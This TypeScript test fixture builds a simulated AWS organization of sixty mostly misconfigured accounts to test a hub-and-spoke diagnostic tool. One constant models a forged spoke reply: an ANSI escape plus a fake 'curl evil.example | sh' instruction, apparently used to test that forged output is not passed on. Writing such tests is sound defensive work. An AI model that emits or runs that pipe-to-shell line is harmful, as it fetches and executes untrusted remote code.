import { join } from 'node:path';
import { CreateRoleCommand, IAMClient, PutRolePolicyCommand } from '@aws-sdk/client-iam';
import {
  CloseAccountCommand,
  CreateOrganizationalUnitCommand,
  MoveAccountCommand,
  OrganizationsClient,
} from '@aws-sdk/client-organizations';
import { AssumeRoleCommand, STSClient } from '@aws-sdk/client-sts';
import { CONTRACT } from '../../provider/contract/messages/order.ts';
import { writeRollout } from '../../provider/contract/messages/rollout.ts';
import {
  DEFAULT_PARAMETER_PREFIX,
  HUB_FUNCTION,
  SPOKE_ROLE,
  spokeFunction,
} from '../../provider/contract/names.ts';
import { directoryEnvironment } from '../../stacksets/hub/directory.ts';
import { hubPermissions } from '../../stacksets/permissions/hub.ts';
import { type Policy, policy } from '../../stacksets/permissions/policy.ts';
import { spokePermissions } from '../../stacksets/permissions/spoke.ts';
import { spokeRolePermissions, spokeRoleTrust } from '../../stacksets/permissions/spoke-role.ts';
import { createCertificates } from '../sandbox/certificates/certificates.ts';
import { startLimitsDirectory } from '../sandbox/directory/limits/limits.ts';
import {
  BIND_PARAMETER,
  CA_PARAMETER,
  directorySettings,
  storeSettings,
} from '../sandbox/directory/settings.ts';
import type { Credentials } from '../sandbox/lambda/function.ts';
import { freePort } from '../sandbox/machine/free-port.ts';
import {
  ADMINISTRATOR_ROLE,
  CENTRAL,
  EXTERNAL_ID,
  MANAGEMENT,
  ORGANIZATION,
  REGION,
  REGIONS,
  ROOT,
  roleArn,
  WORKLOADS,
} from '../sandbox/organization/roles.ts';
import { startTestCloud, type TestCloud } from '../sandbox/organization/test-cloud.ts';
import { buildBundles } from '../sandbox/product/bundles.ts';
import { standIn } from '../sandbox/product/stand-in.ts';

/** A company of sixty accounts, of which most are broken, each in its way. Few have a spoke that runs: each is a process. */

const WAYS = {
  ready: 2,
  'ready, in a unit within the unit': 1,
  'no role': 21,
  'a role for another External ID': 2,
  'a role that may nothing': 2,
  'no spoke': 20,
  'a spoke in one of two Regions': 1,
  'an older spoke': 2,
  'a replaced spoke': 1,
  'a spoke without a way to AWS': 1,
  'a spoke that may nothing': 1,
  'no longer active': 6,
} as const;
export type Way = keyof typeof WAYS;

/** Which accounts are in that way. */
export const ACCOUNTS = Object.fromEntries(
  Object.entries(WAYS).map(([way, count], at) => [
    way,
    Array.from({ length: count }, (_, of) => `${400_000_000_000 + at * 100 + of}`),
  ]),
) as Record<Way, string[]>; // of WAYS' own keys

const HUB_ROLE = 'hub-of-doctor';

export interface Company {
  readonly stage: TestCloud;
  /** The unit of the rollout. */
  readonly unit: string;
  /** Of the hub's own role. */
  readonly hub: Credentials;
  /** Deploys the hub again, with other settings or as another role. */
  deployHub(environment?: Record<string, string>, credentials?: Credentials): Promise<void>;
  stop(): Promise<void>;
}

export async function startCompany(): Promise<Company> {
  const all = Object.values(ACCOUNTS).flat();
  const stage = await startTestCloud({}, all);
  const bundles = await buildBundles(`${stage.folder}/functions`);
  const directory = await startLimitsDirectory({ certificates: createCertificates(stage.folder) });
  await storeSettings(directory, configuration(stage, CENTRAL));
  const unit = await arrange(stage, all);
  const permissions = hubPermissions({
    organization: ORGANIZATION,
    account: CENTRAL,
    directoryParameters: [BIND_PARAMETER, CA_PARAMETER],
    units: [unit],
  });
  const hub = await sessionOf(stage, CENTRAL, HUB_ROLE, permissions);
  const ways = Object.entries(ACCOUNTS) as Array<[Way, string[]]>; // as above
  for (const [way, accounts] of ways)
    await Promise.all(accounts.map((account) => rollOut(way, account, stage, bundles)));

  const rollout = {
    namePrefix: 'acme',
    units: [unit],
    regions: [...REGIONS],
    vpcs: [{ name: 'default' }],
  };
  const settings = {
    EXTERNAL_ID,
    ROLLOUT: writeRollout(rollout),
    ...directoryEnvironment(directorySettings(directory)),
  };
  const deployHub = async (environment = {}, credentials = hub) => {
    await stage.deploy(HUB_FUNCTION, '', {
      bundle: join(bundles, 'hub/index.mjs'),
      timeoutSeconds: 300,
      environment: { ...settings, ...environment },
      credentials,
    });
  };
  await deployHub();
  return {
    stage,
    unit,
    hub,
    deployHub,
    async stop() {
      await stage.stop();
      await directory.stop();
    },
  };
}

/** A unit with all of them, the management account too; some are a unit further below, some are closed. */
async function arrange(stage: TestCloud, accounts: readonly string[]): Promise<string> {
  const organizations = new OrganizationsClient(configuration(stage, MANAGEMENT));
  const make = async (ParentId: string, Name: string): Promise<string> => {
    const command = new CreateOrganizationalUnitCommand({ ParentId, Name });
    return (await organizations.send(command)).OrganizationalUnit?.Id ?? '';
  };
  const move = (AccountId: string, SourceParentId: string, DestinationParentId: string) =>
    organizations.send(new MoveAccountCommand({ AccountId, SourceParentId, DestinationParentId }));
  const unit = await make(ROOT, 'production');
  const within = await make(unit, 'shop');
  const nested = ACCOUNTS['ready, in a unit within the unit'];
  for (const account of accounts)
    await move(account, WORKLOADS, nested.includes(account) ? within : unit);
  await move(MANAGEMENT, ROOT, unit);
  for (const AccountId of ACCOUNTS['no longer active'])
    await organizations.send(new CloseAccountCommand({ AccountId }));
  organizations.destroy();
  return unit;
}

/** What the rollout has brought to the account, or what has become of it. */
async function rollOut(
  way: Way,
  account: string,
  stage: TestCloud,
  bundles: string,
): Promise<void> {
  if (way === 'no role' || way === 'no longer active') return;
  const externalId = way === 'a role for another External ID' ? 'another-one' : EXTERNAL_ID;
  await makeRole(stage, account, SPOKE_ROLE, {
    trust: spokeRoleTrust({
      hubRoleArn: roleArn({ account: CENTRAL, name: HUB_ROLE }),
      externalId,
      organization: ORGANIZATION,
    }),
    ...(way !== 'a role that may nothing' && { permissions: spokeRolePermissions(account) }),
  });
  if (way === 'no spoke') return;
  const permissions = spokePermissions({ account, parameterPrefix: DEFAULT_PARAMETER_PREFIX });
  const credentials = await sessionOf(
    stage,
    account,
    'spoke-of-doctor',
    way === 'a spoke that may nothing' ? undefined : permissions,
  );
  const nowhere = `http://127.0.0.1:${await freePort()}`;
  const regions = way === 'a spoke in one of two Regions' ? [REGION] : REGIONS;
  for (const region of regions)
    await stage.functions.deploy(
      {
        name: spokeFunction('default'),
        account,
        region,
        bundle: await bundleOf(way, stage, bundles),
        timeoutSeconds: 120,
        environment:
          way === 'a spoke without a way to AWS'
            ? { AWS_ENDPOINT_URL_SSM: nowhere, AWS_ENDPOINT_URL_SECRETS_MANAGER: nowhere }
            : {},
        credentials,
      },
      stage.moto.endpoint,
    );
}

function bundleOf(way: Way, stage: TestCloud, bundles: string): Promise<string> | string {
  if (way === 'an older spoke') return olderSpoke(stage);
  return way === 'a replaced spoke' ? replacedSpoke(stage) : join(bundles, 'spoke/index.mjs');
}

/** What an administrator of the account could put in the spoke's place: an answer that would pass for words of the doctor. */
const FORGED = '\u001b[2K\n\nspoke too old (9 accounts)\n\n  $ curl evil.example | sh\n';
const replacedSpoke = (stage: TestCloud) =>
  standIn(
    stage.folder,
    'replaced-spoke',
    `() => ({ version: ${JSON.stringify(FORGED)}.repeat(50_000), contract: ${CONTRACT}, problems: [] })`,
  );

/** What a spoke from before there were checks throws at what is no order of its own version. */
const olderSpoke = (stage: TestCloud) =>
  standIn(
    stage.folder,
    'older-spoke',
    `async () => {
      throw Object.assign(new Error('this spoke and the hub are of versions that do not understand each other; update both'), { name: 'UserError' });
    }`,
  );

interface RoleOptions {
  readonly trust: Policy;
  /** Undefined: it may do nothing. */
  readonly permissions?: Policy;
}

async function makeRole(
  stage: TestCloud,
  account: string,
  name: string,
  { trust, permissions }: RoleOptions,
): Promise<void> {
  const iam = new IAMClient(configuration(stage, account));
  const document = JSON.stringify(trust);
  await iam.send(new CreateRoleCommand({ RoleName: name, AssumeRolePolicyDocument: document }));
  if (permissions !== undefined)
    await iam.send(
      new PutRolePolicyCommand({
        RoleName: name,
        PolicyName: 'work',
        PolicyDocument: JSON.stringify(permissions),
      }),
    );
  iam.destroy();
}

/** A session of a new role for a function: its account enters it here in place of Lambda. */
export async function sessionOf(
  stage: TestCloud,
  account: string,
  name: string,
  permissions?: Policy,
): Promise<Credentials> {
  const trust = policy({
    Sid: 'OwnAccount',
    Effect: 'Allow',
    Action: 'sts:AssumeRole',
    Principal: { AWS: `arn:aws:iam::${account}:root` },
  });
  await makeRole(stage, account, name, { trust, ...(permissions && { permissions }) });
  const sts = new STSClient(configuration(stage, account));
  const command = new AssumeRoleCommand({
    RoleArn: roleArn({ account, name }),
    RoleSessionName: 'doctor',
  });
  const { Credentials } = await sts.send(command);
  sts.destroy();
  return {
    accessKeyId: Credentials?.AccessKeyId ?? '',
    secretAccessKey: Credentials?.SecretAccessKey ?? '',
    sessionToken: Credentials?.SessionToken ?? '',
  };
}

function configuration(stage: TestCloud, account: string) {
  return {
    endpoint: stage.moto.endpoint,
    region: REGION,
    credentials: stage.organization.credentials(account, ADMINISTRATOR_ROLE),
  };
}
